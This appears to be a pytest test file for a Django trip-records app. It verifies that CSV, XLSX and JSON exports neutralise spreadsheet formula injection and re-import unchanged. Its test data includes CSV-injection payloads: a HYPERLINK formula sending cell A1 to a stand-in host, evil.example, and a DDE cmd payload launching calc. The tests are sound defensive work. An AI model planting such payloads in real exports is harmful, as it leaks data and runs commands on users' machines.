"""Exports open safely in Excel (issue 10, item 5).

A cell starting with =, +, -, @, a tab or a carriage return is a formula to a
spreadsheet program (CSV injection, OWASP). CSV cells are written with a leading
apostrophe, XLSX cells as text cells (never formulas); the JSON export and the
re-import of an exported file give back the exact text.
"""

import csv
import io
import json

import openpyxl
import pytest
from django.urls import reverse

from meetings.models import Keyword, Lesson, Trip
from meetings.services import trip_to_document

from ..factories import make_trip

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"點我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
EXPORT_URL = reverse("admin:meetings_trip_export")
IMPORT_URL = reverse("admin:meetings_trip_import")


@pytest.fixture
def hostile_trips(customs):
    trips = []
    for i, text in enumerate(HOSTILE):
        trip = make_trip(customs, title=f"{text} {i}" if i < 4 else text + str(i))
        trip.keywords.add(Keyword.objects.create(name=f"=kw{i}"))
        Lesson.objects.create(
            trip=trip, kind=Lesson.Kind.RECOMMENDATION, title=text, body=text, order=i
        )
        trips.append(trip)
    return trips


def export(client, fmt):
    choice = {"json": "0", "csv": "1", "xlsx": "2"}[fmt]
    response = client.post(EXPORT_URL, {"format": choice, "resource": "0"})
    assert response.status_code == 200
    return response.content


def risky(text):
    return isinstance(text, str) and text[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_never_start_a_formula(client_for, superuser, hostile_trips):
    text = export(client_for(superuser), "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert [c for c in cells if risky(c)] == []
    titles = {row[1] for row in rows[1:]}
    assert "'" + hostile_trips[0].title in titles


def formula_cells(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def text_values(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def test_xlsx_trip_export_holds_text_not_formulas(client_for, superuser, hostile_trips):
    content = export(client_for(superuser), "xlsx")
    assert formula_cells(content) == []
    # As text, the exact title.
    assert hostile_trips[0].title in text_values(content)


def test_recommendations_xlsx_holds_text_not_formulas(client_for, viewer, hostile_trips):
    url = reverse("meetings:recommendation-list") + "?format=xlsx"
    content = client_for(viewer).get(url).content
    assert formula_cells(content) == []
    assert HOSTILE[0] in text_values(content)


def test_json_export_keeps_the_exact_text(client_for, superuser, hostile_trips):
    documents = json.loads(export(client_for(superuser), "json"))
    assert {d["title"] for d in documents} == {t.title for t in hostile_trips}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_lists_import_back_to_the_same_trips(client_for, superuser, hostile_trips, fmt):
    from django.core.files.uploadedfile import SimpleUploadedFile

    # Titles with a leading tab or line break cannot be typed in a form (Django strips
    # them) nor imported (control characters are removed): the formula characters.
    Trip.objects.filter(title__regex=r"^\s").delete()
    client = client_for(superuser)
    before = {t.pk: trip_to_document(t) for t in Trip.objects.all()}
    data = export(client, fmt)
    formats = {"csv": "4", "xlsx": "5"}
    upload = SimpleUploadedFile(f"trips.{fmt}", data)
    preview = client.post(IMPORT_URL, {"format": formats[fmt], "import_file": upload})
    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert {row.import_type for row in result.rows} == {"skip"}
    assert {t.pk: trip_to_document(t) for t in Trip.objects.all()} == before
